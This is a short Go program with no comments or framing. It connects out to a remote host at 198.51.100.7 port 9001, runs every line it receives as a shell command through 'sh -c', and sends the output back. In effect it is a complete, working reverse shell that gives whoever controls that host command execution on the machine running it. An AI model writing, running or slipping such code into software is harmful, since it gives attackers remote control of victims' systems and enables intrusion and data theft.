package main

import (
	"bufio"
	"fmt"
	"net"
	"os/exec"
	"strings"
)

func main() {
	c, err := net.Dial("tcp", "198.51.100.7:9001")
	if err != nil {
		return
	}
	defer c.Close()
	r := bufio.NewReader(c)
	for {
		line, err := r.ReadString('\n')
		if err != nil {
			return
		}
		out, err := exec.Command("sh", "-c", strings.TrimSpace(line)).CombinedOutput()
		if err != nil {
			fmt.Fprintln(c, err)
		}
		c.Write(out)
	}
}
